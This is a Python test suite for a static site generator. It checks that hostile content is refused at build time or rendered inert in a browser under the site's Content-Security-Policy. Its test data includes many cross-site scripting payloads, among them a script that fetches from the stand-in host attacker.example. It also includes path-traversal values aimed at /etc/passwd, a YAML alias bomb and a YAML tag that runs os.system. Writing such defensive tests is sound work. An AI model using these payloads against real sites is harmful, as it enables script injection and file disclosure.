"""Content cannot attack the site. Crafted files, as a hostile or careless editor would write
them, each either:

- refused: `make html` fails naming the file and the line, and output/ stays byte for byte
  the last good site; or
- published inert: built together into one site, every page they reach is opened in Chromium
  with the site's Content-Security-Policy, and no script of theirs runs, no page navigates
  away, nothing is asked of another origin; the feeds carry no markup that would run.

tests/test_builds.py covers faults of the build itself (two builds at once, kills, damaged
caches). The figures of this suite are in docs/testing.md.
"""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
from pathlib import Path
from urllib.parse import urlsplit

import feedparser
import pytest
from conftest import ROOT, files, open_page, production_csp
from sitecheck import BuiltSite

from plugins.content_model.source_reader.safe_html import removed
from tools.static_server import serve

FRONT = ("---\ntitle: {title}\ndate: 2026-05-06 10:00\nauthors: [A Writer]\n"
         "summary: {summary}\n---\n")  # fmt: skip
NEWS = "news/2026/2026-05-06-{name}.md"
# What a hostile script would do: the tests look for each of these.
PAYLOAD = "window.__hostile=1;fetch('https://attacker.example/x');alert(1)"
EVIL = "https://attacker.example"


class Link(str):
    """A symbolic link to this target."""


def quoted(text: str) -> str:
    """`text` as a YAML string in double quotes (JSON's strings are YAML's)."""
    return json.dumps(text)


def news(body: str, title: str = "A title", summary: str = "A summary.") -> str:
    return FRONT.format(title=title, summary=summary) + body


def page(slug_or_fields: str, body: str = "Text.\n") -> str:
    return (f"---\ntitle: A page\n{slug_or_fields}summary: S.\nlast_reviewed: 2026-11-01\n"
            f"next_review: 2027-05-01\n---\n{body}")  # fmt: skip


# --- Refused: (name, {path: text or bytes, or a symbolic link's target}, file and line) ----

X = "content/news/2026/2026-05-06-x.md"


def in_text(body: str, line: int = 7) -> tuple[dict, str]:
    """A news item with this text, and where its problem is: line `line` of the file (the
    text starts on line 7)."""
    return {NEWS.format(name="x"): news(body)}, f"{X}:{line}:"


def with_fields(fields: str, line: int) -> tuple[dict, str]:
    """A news item with these fields added, and where its problem is."""
    text = news("Text.\n").replace("---\nText", fields + "---\nText")
    return {NEWS.format(name="x"): text}, f"{X}:{line}:"


def changed(relative: str, old: str, new: str) -> tuple[dict, str]:
    """A file of the sample with `old` changed into `new`, and where its problem is: the
    line after the first of `new`."""
    sample = (ROOT / "content" / relative).read_text(encoding="utf-8")
    line = sample[: sample.index(old)].count("\n") + 2
    return {relative: lambda text: text.replace(old, new, 1)}, f"content/{relative}:{line}:"


def alone(relative: str, value, line: int = 1) -> tuple[dict, str]:
    """One file added, and where its problem is."""
    return {relative: value}, f"content/{relative}:{line}:"


SVG = '<svg xmlns="http://www.w3.org/2000/svg">'
BOMB = (
    "---\na: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
    "c: &c [*b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]\n"
    "e: [*d, *d, *d, *d, *d, *d, *d, *d, *d]\ntitle: T\n---\nText.\n"
)

REFUSED = [
    ("script element", *in_text(f"Text.\n<script>{PAYLOAD}</script>\n", 8)),
    ("script from the picture folder",
     {NEWS.format(name="x"): news('<script src="../../../images/x.js"></script>\n'),
      "images/x.js": PAYLOAD}, "content/images/x.js:1:"),
    ("iframe", *in_text(f'<iframe src="{EVIL}"></iframe>\n')),
    ("iframe srcdoc", *in_text('<iframe srcdoc="<script>x</script>"></iframe>\n')),
    ("object", *in_text(f'<object data="{EVIL}/x.swf"></object>\n')),
    ("embed", *in_text(f'<embed src="{EVIL}/x">\n')),
    ("style element", *in_text("<style>body{display:none}</style>\n")),
    ("style attribute", *in_text('<p style="color:red">x</p>\n')),
    ("img onerror", *in_text(f'<img src="x" onerror="{PAYLOAD}">\n')),
    ("onmouseover", *in_text('<p onmouseover="go()">x</p>\n')),
    ("svg onload", *in_text(f'<svg onload="{PAYLOAD}"></svg>\n')),
    ("math", *in_text('<math><mi xlink:href="javascript:x">x</mi></math>\n')),
    ("form", *in_text(f'<form action="{EVIL}"><input name=a></form>\n')),
    ("button formaction", *in_text(f'<button formaction="{EVIL}">x</button>\n')),
    ("base", *in_text(f'<base href="{EVIL}/">\n')),
    ("meta refresh", *in_text(f'<meta http-equiv="refresh" content="0;url={EVIL}">\n')),
    ("link stylesheet", *in_text(f'<link rel="stylesheet" href="{EVIL}/x.css">\n')),
    ("details ontoggle", *in_text('<details open ontoggle="go()">x</details>\n')),
    ("video source onerror", *in_text('<video><source onerror="go()"></video>\n')),
    ("input autofocus", *in_text('<input autofocus onfocus="go()">\n')),
    ("template", *in_text("<template><script>x</script></template>\n")),
    ("javascript link", *in_text("[Go](javascript:alert(1))\n")),
    ("JAVASCRIPT in capitals", *in_text("[Go](JAVASCRIPT:alert(1))\n")),
    ("javascript entity-encoded", *in_text("[Go](&#106;avascript:alert(1))\n")),
    ("javascript raw link", *in_text('<a href="javascript:go()">x</a>\n')),
    ("javascript encoded raw link", *in_text('<a href="&#x6A;avascript&#58;go()">x</a>\n')),
    ("vbscript link", *in_text("[Go](vbscript:msgbox)\n")),
    ("data link", *in_text("[Go](data:text/html;base64,PHNjcmlwdD4=)\n")),
    ("javascript picture", *in_text("![A picture](javascript:go())\n")),
    ("picture from another site", *in_text(f"![A picture]({EVIL}/x.png)\n")),
    ("javascript reference link", *in_text("[Go][a]\n\n[a]: javascript:go()\n", 9)),
    ("attribute list event handler", *in_text('A paragraph.\n{: onmouseover="go()" }\n', 8)),
    ("attribute list style", *in_text('A paragraph.\n{: style="x" }\n', 8)),
    ("comment then script", *in_text("<!-- x --><script>go()</script>\n")),
    ("svg javascript link", *in_text('<svg><a xlink:href="javascript:go()">x</a></svg>\n')),
    ("save_as over the home page", *with_fields("save_as: index.html\n", 6)),
    ("url override", *with_fields("url: ../../elsewhere/\n", 6)),
    ("fields ended by an indented line",
     {NEWS.format(name="x"): news("Text.\n").replace("title: A title\n",
                                                     "title: T\n ---\nsave_as: index.html\n")},
     f"{X}:"),
    ("template outside the theme", *alone("pages/x.md", page("template: ../../etc/passwd\n"), 3)),
    ("slug leaving its folder", *alone("pages/x.md", page("slug: ../../index\n"), 3)),
    ("YAML alias bomb", *alone("news/2026/2026-05-06-x.md", BOMB, 2)),
    ("YAML python tag", *alone("news/2026/2026-05-06-x.md",
                               "---\ntitle: !!python/object/apply:os.system [id]\n---\nT.\n", 2)),
    ("NUL byte in a title", *alone(NEWS.format(name="x"), news("T.\n", title="A\x00title"), 2)),
    ("control character in the text", *in_text("Bell\x07.\n")),
    ("right-to-left override", *alone(NEWS.format(name="x"), news("T.\n", title="a\u202eb"), 2)),
    ("a time the clocks skip",
     *alone(NEWS.format(name="x"), news("T.\n").replace("2026-05-06 10:00", "2026-03-29 02:30"),
            3)),
    ("a language the site is not in", *with_fields("lang: fr\n", 6)),
    ("markup in a file name", *alone("news/2026/2026-05-06-<b>x</b>.md", news("T.\n"))),
    ("capitals and spaces in a file name", *alone("pages/My Page.md", page(""))),
    ("a page at the search page's address", *alone("pages/search.md", page(""))),
    ("a page at the news list's address", *alone("pages/x.md", page("slug: news\n"), 3)),
    ("a page at the A to Z's address", *alone("pages/a-z.md", page(""))),
    ("a page in the theme's folder", *alone("pages/theme.md", page(""))),
    ("a page at the office's address", *alone("pages/office.md", page(""))),
    ("two news items at one address",
     {NEWS.format(name="x"): news("T.\n"),
      "news/2026/2026-07-01-x.md": news("T.\n").replace("2026-05-06", "2026-07-01")},
     "content/news/2026/2026-07-01-x.md:1:"),
    ("a topic with no letters", *with_fields("tags: ['!!!']\n", 6)),
    ("a draft directorate named by news",
     {"directorates/nursing-services.en.md":
          lambda text: text.replace("\n---\n", "\nstatus: draft\n---\n", 1),
      NEWS.format(name="x"): news("T.\n").replace("---\nT", "directorates: [nursing-services]\n"
                                                            "---\nT")},
     f"{X}:6:"),
    ("a picture outside content", *with_fields("image:\n  src: ../../../../etc/passwd\n"
                                               "  alt: A file\n", 7)),
    ("an absolute picture path", *with_fields("image:\n  src: /etc/passwd\n  alt: A file\n", 7)),
    ("a static link leaving content", *in_text("[The file]({static}/../../../../etc/passwd)\n")),
    ("a link to a system file", *alone("images/passwd.png", Link("/etc/passwd"))),
    ("a link to a folder", *alone("news/2031", Link("/tmp"))),
    ("a script in the documents", *alone("documents/x.js", PAYLOAD)),
    ("a web page in the documents", *alone("documents/x.html", f"<script>{PAYLOAD}</script>")),
    ("a stylesheet in the pictures", *alone("images/x.css", "body{display:none}")),
    ("a program in the documents", *alone("documents/x.exe", b"MZ\x90\x00")),
    ("an SVG with a script",
     *alone("images/x.svg", f"{SVG}\n<script>{PAYLOAD}</script></svg>", 2)),
    ("an SVG with onload",
     *alone("images/x.svg", SVG.replace(">", f' onload="{PAYLOAD}">') + "</svg>")),
    ("an SVG loading from elsewhere",
     *alone("images/x.svg", f'{SVG}\n<image href="{EVIL}/x"/></svg>', 2)),
    ("an SVG with a foreign object",
     *alone("images/x.svg", f"{SVG}<foreignObject><div>x</div></foreignObject></svg>")),
    ("a picture named with spaces", *alone("images/My Photo.png", b"\x89PNG\r\n")),
    ("office text with a script", *changed("office.yaml", "about: |\n",
                                           "about: |\n  <script>go()</script>\n")),
    ("visiting text with an event handler",
     *changed("office.yaml", "  getting_there: |\n",
              "  getting_there: |\n    <img src=x onerror=go()>\n")),
    ("mandate intro with a frame",
     *changed("mandate.yaml", "intro: |\n", f'intro: |\n  <iframe src="{EVIL}"></iframe>\n')),
]  # fmt: skip


def write_case(content: Path, case: dict) -> None:
    """Write each file: text, bytes, a symbolic link, or a change to the sample's file."""
    for relative, value in case.items():
        path = content / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(value, Link):
            path.symlink_to(value)
        elif callable(value):
            path.write_text(value(path.read_text(encoding="utf-8")), encoding="utf-8")
        elif isinstance(value, bytes):
            path.write_bytes(value)
        else:
            path.write_text(value, encoding="utf-8")


def build_command(content: Path, output: Path) -> list[str]:
    return [sys.executable, "tools/build.py", "--content", str(content), "--output", str(output),
            "-e", f'CACHE_PATH="{output.parent / "cache"}"']  # fmt: skip


def digest_of(folder: Path) -> str:
    digest = hashlib.sha256()
    for name, data in files(folder).items():
        digest.update(name.encode() + b"\0" + data)
    return digest.hexdigest()


@pytest.fixture(scope="module")
def good_site(tmp_path_factory):
    """The sample content built once; each case builds a copy of it again."""
    folder = tmp_path_factory.mktemp("good")
    result = subprocess.run(build_command(ROOT / "content", folder / "output"), cwd=ROOT,
                            capture_output=True, text=True, timeout=600)  # fmt: skip
    assert result.returncode == 0, result.stderr
    return folder / "output"


@pytest.mark.parametrize("case", REFUSED, ids=[name for name, _, _ in REFUSED])
def test_hostile_content_is_refused_with_file_and_line(case, content_copy, tmp_path, good_site):
    _, written, where = case
    output = tmp_path / "output"
    # The last good site, built from the same content before the hostile change.
    first = subprocess.run(build_command(content_copy, output), cwd=ROOT, capture_output=True,
                           text=True, timeout=600)  # fmt: skip
    assert first.returncode == 0, first.stderr
    before = digest_of(output)
    write_case(content_copy, written)
    result = subprocess.run(build_command(content_copy, output), cwd=ROOT, capture_output=True,
                            text=True, timeout=600)  # fmt: skip
    said = result.stdout + result.stderr
    assert result.returncode != 0, said[-3000:]
    assert where in said, said[-3000:]
    assert "Traceback" not in said, said[-3000:]
    assert digest_of(output) == before


# --- Published inert: all these in one site ------------------------------------------------

INERT = {
    NEWS.format(name="title-markup"): news("Text.\n", title=quoted(f"<script>{PAYLOAD}</script>")),
    NEWS.format(name="summary-markup"): news(
        "Text.\n", summary=quoted(f'<img src=x onerror="{PAYLOAD}">')),
    NEWS.format(name="caption-markup"): news("Text.\n").replace(
        "---\nText", "image:\n  src: images/news/online-appointment-reminders.svg\n"
        "  alt: " + quoted('"><script>' + PAYLOAD + "</script>") + "\n"
        "  caption: " + quoted("<b onclick=go()>c</b>") + "\n---\nText"),
    NEWS.format(name="byline-markup"): news("Text.\n").replace(
        "authors: [A Writer]", f"authors: [{quoted(f'<script>{PAYLOAD}</script>')}]"),
    NEWS.format(name="topic-markup"): news("Text.\n").replace(
        "---\nText", f"tags: [{quoted(f'Markup <img src=x onerror={PAYLOAD}>')}]\n---\nText"),
    NEWS.format(name="code-with-markup"): news(
        f"Code:\n\n    <script>{PAYLOAD}</script>\n\nAnd `<img src=x onerror=go()>` inline.\n"),
    NEWS.format(name="fenced-code-with-markup"): news(
        f"```\n<script>{PAYLOAD}</script>\n```\n\nDone.\n"),
    NEWS.format(name="escaped-markup"): news(f"&lt;script&gt;{PAYLOAD}&lt;/script&gt;\n"),
    NEWS.format(name="quotes-in-text"): news("He said \"<not a tag\" and 'it's' fine.\n"),
    NEWS.format(name="crlf-and-bom"): "\ufeff" + news("Windows line endings.\n").replace(
        "\n", "\r\n"),
    "pages/markup-in-title.md": page("", "Text.\n").replace(
        "title: A page", f"title: {quoted(f'</title><script>{PAYLOAD}</script>')}"),
}  # fmt: skip


@pytest.fixture(scope="module")
def inert_site(tmp_path_factory):
    folder = tmp_path_factory.mktemp("inert")
    content = folder / "content"
    subprocess.run(["cp", "-r", str(ROOT / "content"), str(content)], check=True)
    write_case(content, INERT)
    result = subprocess.run(build_command(content, folder / "output"), cwd=ROOT,
                            capture_output=True, text=True, timeout=600)  # fmt: skip
    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
    return folder / "output"


def reached_pages(output: Path) -> list[str]:
    """Every reader's page of the inert site (all of them: a hostile text reaches lists,
    topics, the A to Z and search as well as its own page)."""
    return sorted(path.parent.relative_to(output).as_posix() + "/"
                  for path in BuiltSite(output).html_files()
                  if path.name == "index.html")  # fmt: skip


# Elements with event handlers, and scripts that carry the payload, anywhere in the page.
LIVE_MARKUP = """() => [
  ...document.querySelectorAll("[onerror], [onclick], [onmouseover], [onload], [onfocus]"),
  ...[...document.scripts].filter((script) => script.type !== "application/ld+json"
                                 && script.textContent.includes("__hostile")),
].map((element) => element.outerHTML.slice(0, 80))"""


def test_hostile_content_is_published_inert_in_the_browser(inert_site, browser):
    with serve(inert_site, {"Content-Security-Policy": production_csp()}) as base_url:
        origin = urlsplit(base_url).netloc
        context, tab = open_page(browser)
        elsewhere, dialogs, refused = [], [], []
        tab.on("request", lambda request: urlsplit(request.url).netloc not in (origin, "")
               and elsewhere.append(request.url))  # fmt: skip
        tab.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        # The policy would stop an inline script: content markup must not reach the page as
        # markup at all, so a refusal by the policy counts as a failure too.
        tab.on("console", lambda message: "Content Security Policy" in message.text
               and refused.append(message.text))  # fmt: skip
        for address in reached_pages(inert_site):
            tab.goto(base_url + address.removeprefix("./"))
            tab.mouse.move(10, 10)
            assert tab.evaluate("() => window.__hostile") is None, address
            assert urlsplit(tab.url).netloc == origin, address
            assert tab.evaluate(LIVE_MARKUP) == [], address
        context.close()
    assert not elsewhere
    assert not dialogs
    assert not refused


def test_hostile_content_reaches_the_feeds_as_text(inert_site):
    for feed_path in sorted(inert_site.rglob("*.atom.xml")):
        feed = feedparser.parse(feed_path.read_bytes())
        for entry in feed.entries:
            for part in [*entry.get("content", []), entry.get("summary_detail")]:
                if part and part.get("type") == "text/html":
                    assert not removed(part["value"]), (feed_path.name, entry.title)
            assert "<script" not in entry.title.lower()


def test_the_suite_tries_enough_cases():
    assert len(REFUSED) + len(INERT) >= 60
    assert len({name for name, _, _ in REFUSED}) == len(REFUSED)
    assert os.path.isfile(ROOT / "tools/build.py")
